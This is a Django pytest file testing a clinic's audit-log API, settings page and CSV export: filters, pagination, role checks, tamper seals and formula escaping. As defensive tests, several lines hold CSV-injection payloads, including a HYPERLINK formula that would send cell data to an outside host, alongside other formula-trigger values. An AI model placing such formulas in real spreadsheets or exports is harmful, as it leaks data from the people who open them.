"""Reading the audit: the page, its file, the API. Only the ceo of the clinic, only of the clinic."""
import csv
import io
from datetime import UTC, datetime

import pytest
from django.core.management import call_command

from clinics import audit, audit_log, seals, tenancy
from clinics.models import SystemEvent, User
from dentalogic.lib import clock, sheets

pytestmark = pytest.mark.django_db
API, PAGE, FILE = "/admin/core/audit/logs", "/settings/audit/", "/settings/audit/export"
NOON = datetime(2026, 11, 24, 15, 0, tzinfo=UTC)


@pytest.fixture
def rows(arrayan, bosque, people, strangers, within):
    """Four of Arrayán at both ends of its Tuesday, one of Bosque."""
    told = (
        (datetime(2026, 11, 24, 2, 59, 59, tzinfo=UTC), "login", "info", "ceo"),  # Monday 23:59:59 in Buenos Aires
        (datetime(2026, 11, 24, 3, 0, tzinfo=UTC), "record.read", "info", "professional"),
        (datetime(2026, 11, 25, 2, 59, 59, tzinfo=UTC), "member.suspended", "warning", "ceo"),
        (datetime(2026, 11, 25, 3, 0, tzinfo=UTC), "login", "info", "professional"))
    with within(arrayan):
        for at, event, severity, role in told:
            with clock.standing_at(at):
                audit.log_security_event(event, severity=severity, by=people[role].actor)
    with within(bosque), clock.standing_at(NOON):
        audit.log_security_event("login", by=strangers["ceo"].actor)


def seen(client, **asked):
    """The types that the API answers for these filters, newest first; its own row comes after."""
    response = client.get(API, asked)
    assert response.status_code == 200, response.content
    return [row["type"] for row in response.json()["results"] if row["type"] not in ("access", "patient.registered")]


@pytest.fixture
def ceo(api_as, rows):
    return api_as("ceo")


def test_newest_first_and_of_ones_own_clinic(ceo, people):
    body = ceo.get(API).json()
    assert [row["type"] for row in body["results"]] == ["login", "member.suspended", "record.read", "login"]
    assert body["count"] == 4
    last = body["results"][0]
    assert set(last) == {
        "id", "at", "type", "label", "severity", "actor", "role", "ip", "method", "path", "payload", "sealed"}
    assert last["actor"] == {"id": people["professional"].user_id, "name": people["professional"].user.name}
    assert (last["label"], last["role"], last["sealed"]) == ("Ingresó", "professional", False)


def test_filters_by_type_severity_person_and_the_clinics_dates(ceo, people, strangers):
    assert seen(ceo, type="login") == ["login", "login"]
    assert seen(ceo, severity="warning") == ["member.suspended"]
    assert seen(ceo, actor=people["professional"].user_id) == ["login", "record.read"]
    assert seen(ceo, actor=strangers["ceo"].user_id) == []
    assert seen(ceo, **{"from": "2026-11-24", "to": "2026-11-24"}) == ["member.suspended", "record.read"]
    assert seen(ceo, to="2026-11-23") == ["login"]
    assert seen(ceo, type="login", **{"from": "2026-11-25"}, to="2026-11-25") == ["login"]
    assert seen(ceo, type="nothing.such") == []


@pytest.mark.parametrize(("asked", "field"), [
    ({"type": "no es un tipo"}, "type"), ({"severity": "peor"}, "severity"), ({"actor": "yo"}, "actor"),
    ({"actor": "99999999999999999999"}, "actor"), ({"from": "24/11/2026"}, "from"), ({"to": "2026-02-30"}, "to"),
    ({"from": "2026-11-24", "to": "2026-11-23"}, "to"), ({"from": "0001-01-01"}, "from"), ({"to": "9999-12-31"}, "to"),
    ({"type": "\x00"}, "type"),
])
def test_a_filter_that_is_none_is_told_by_its_field(ceo, client_as, asked, field):
    response = ceo.get(API, asked)
    assert response.status_code == 400 and response.json()["code"] == "invalid"
    assert list(response.json()["fields"]) == [field]
    page = client_as("ceo").get(PAGE, asked)
    assert page.status_code == 422 and "Hay filtros para corregir" in page.content.decode()


def test_a_row_that_names_several_things_is_shown(client_as, rows, arrayan, within, people):
    with within(arrayan):
        audit.log_security_event("clinic.configured", by=people["ceo"].actor, changed=["phone", "address"])
        audit.log_security_event("member.role", by=people["ceo"].actor, member=people["setter"].pk, role="closer")
    page = client_as("ceo").get(PAGE)
    assert page.status_code == 200
    assert "phone" in page.text and people["setter"].user.name in page.text


def test_pages_of_fifty(ceo, arrayan, within):
    with within(arrayan), clock.standing_at(NOON):
        for _row in range(60):
            audit.log_security_event("logout")
    body = ceo.get(API, {"type": "logout"}).json()
    assert (body["count"], len(body["results"])) == (60, 50) and "page=2" in body["next"]
    assert len(ceo.get(API, {"type": "logout", "page": 2}).json()["results"]) == 10
    assert ceo.get(API, {"type": "logout", "page": 9}).status_code == 404


@pytest.mark.parametrize("role", ["professional", "secretary", "setter", "closer"])
def test_nobody_else_reads_it_and_who_tries_is_noted(api_as, client_as, rows, role, arrayan, within):
    for client, path in ((api_as(role), API), (client_as(role), PAGE), (client_as(role), FILE)):
        assert client.get(path).status_code == 403
    with within(arrayan):
        tried = SystemEvent.objects.filter(event="refused", role=role).order_by("pk")
        assert [row.payload["capability"] for row in tried] == ["audit.read", "audit.read", "exports.make"]


def test_without_a_session_there_is_nothing(client, rows):
    assert client.get(API).status_code == 401
    assert client.get(PAGE).status_code == 302


def test_reading_is_noted_too(ceo, arrayan, within, people):
    ceo.get(API, {"type": "login"})
    with within(arrayan):
        row = SystemEvent.objects.get(event="access")
        assert (row.path, row.payload, row.actor_id) == (
            API, {"status": 200, "capability": "audit.read"}, people["ceo"].user_id)


def test_the_cost_does_not_grow_with_the_rows(ceo, client_as, arrayan, within, django_assert_num_queries):
    from django.db import connection  # noqa: PLC0415
    from django.test.utils import CaptureQueriesContext  # noqa: PLC0415

    page = client_as("ceo")
    for client, path in ((ceo, API), (page, PAGE), (page, FILE)):
        client.get(path)
        with CaptureQueriesContext(connection) as few:
            assert client.get(path).status_code == 200
        with within(arrayan):
            for _row in range(30):
                audit.log_security_event("login")
        with CaptureQueriesContext(connection) as many:
            assert client.get(path).status_code == 200
        assert len(many) == len(few), path


def test_it_is_in_the_apis_document():
    said = io.StringIO()
    call_command("spectacular", stdout=said)
    document = said.getvalue()
    assert "/admin/core/audit/logs:" in document and "operationId: audit_logs" in document
    assert all(f"name: {name}\n" in document for name in ("type", "severity", "actor", "from", "to", "page"))


def test_djangos_admin_is_still_there(client_as, rows):
    assert client_as("ceo").get("/admin/").status_code == 200


# The page


def test_the_page_says_it_in_words(client_as, rows, people):
    said = client_as("ceo").get(PAGE, {"type": "member.suspended"}).content.decode()
    assert "Suspendió una cuenta" in said and "Atención" in said and people["ceo"].user.name in said
    assert "Leyó una historia" not in said.partition('class="plain au-l"')[2], "only what was asked for is listed"
    assert "type=member.suspended" in said.partition("Exportar")[0].rpartition("export?")[2]


def test_who_it_was_done_to_is_named_with_their_role_in_words(client_as, people, arrayan, within):
    ceo, member = client_as("ceo"), people["secretary"]
    ceo.post(f"/settings/people/{member.pk}/role", {"role": "closer"})
    page = ceo.get(PAGE, {"type": "member.role"}).content.decode()
    assert f'<a href="/settings/people/{member.pk}/">cuenta {member.user.name}</a>' in page
    assert "rol Cierre" in page and "rol anterior Recepción" in page
    with within(arrayan):
        assert member.user.name not in str(SystemEvent.objects.get(event="member.role").payload)


def test_nothing_found_is_said(client_as, rows):
    assert "Nada con esos filtros" in client_as("ceo").get(PAGE, {"to": "2020-01-01"}).content.decode()


def test_the_page_says_what_is_sealed_and_compares_on_demand(client_as, rows, arrayan, within, owner):
    client = client_as("ceo")
    assert "Todavía no hay ninguno" in client.get(PAGE).content.decode()
    with tenancy.tenant_context(arrayan.pk):
        (seal,) = seals.seal()
    said = client.get(PAGE).content.decode()
    assert seal.hash in said and 'aria-label="Sellado"' in said
    assert "Todo coincide con sus sellos" in client.post(PAGE + "verify").content.decode()


@pytest.mark.django_db(transaction=True)
def test_what_was_touched_shows_on_the_page(client_as, rows, arrayan, owner):
    with tenancy.tenant_context(arrayan.pk):
        seals.seal()
    owner.execute("UPDATE system_events SET role = 'x' WHERE event = 'record.read'")
    said = client_as("ceo").post(PAGE + "verify").content.decode()
    assert "no coinciden con sus sellos" in said and "Cambió algo" in said


# The file


def read(response):
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_the_file_holds_what_was_asked_for_and_leaves_its_row(client_as, rows, arrayan, people, within):
    head, *lines = read(response := client_as("ceo").get(FILE, {"from": "2026-11-24", "to": "2026-11-24"}))
    assert [line[2] for line in lines] == ["member.suspended", "record.read"]
    assert dict(zip(head, lines[0], strict=True))["Fecha"] == "2026-11-24T23:59:59-03:00"
    assert 'filename="auditoria-arrayan-' in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    with within(arrayan):
        row = SystemEvent.objects.get(event="audit.exported")
        assert (row.payload, row.severity, row.actor_id) == ({"rows": 2}, "warning", people["ceo"].user_id)


def test_a_name_that_is_a_formula_stays_a_name(client_as, rows, people):
    User.objects.filter(pk=people["ceo"].user_id).update(name='=HYPERLINK("http://x/?"&A1;"ver")')
    lines = read(client_as("ceo").get(FILE, {"type": "member.suspended"}))
    assert lines[1][4] == '\'=HYPERLINK("http://x/?"&A1;"ver")'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+54 9 341", "'+54 9 341"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), (" =1", "' =1"), ("\u200b=1", "'\u200b=1"), ("-5.50", "-5.50"), ("+5", "+5"), (-3, "-3"),
    (None, ""), ("Ana", "Ana"), ("a=b", "a=b"), ("%00", "'%00"),
])
def test_a_cell_is_never_a_formula(value, written):
    assert sheets.cell(value) == written


def test_too_many_rows_are_refused_with_what_to_do(client_as, rows, monkeypatch, arrayan, within):
    monkeypatch.setattr(audit_log, "A_FILE", 3)
    response = client_as("ceo").get(FILE)
    assert response.status_code == 422 and "Elegí un período más corto" in response.content.decode()
    with within(arrayan):
        assert not SystemEvent.objects.filter(event="audit.exported").exists()


def test_what_was_opened_is_said_with_where(client_as, api_as, rows):
    client = client_as("ceo")
    client.get("/cash/")
    client.get("/patients/999999/")
    client.post("/patients/new/", {"first_name": "Ana", "last_name": "Paz", "document_type": "DNI"})
    client_as("professional").get("/cash/")
    with_rows = api_as("ceo").get(API, {"type": "access"}).json()["results"]
    assert [row["label"] for row in with_rows] == [
        "Cambió algo en pacientes", "Pidió pacientes y no pudo", "Abrió la caja"]
    assert api_as("ceo").get(API, {"type": "refused"}).json()["results"][0]["label"] == "Se le negó: la caja"


def test_every_audited_capability_has_a_place():
    from clinics import audit_words  # noqa: PLC0415
    from clinics.access import TABLE  # noqa: PLC0415

    assert {name.partition(".")[0] for name in TABLE} <= set(audit_words.PLACES)
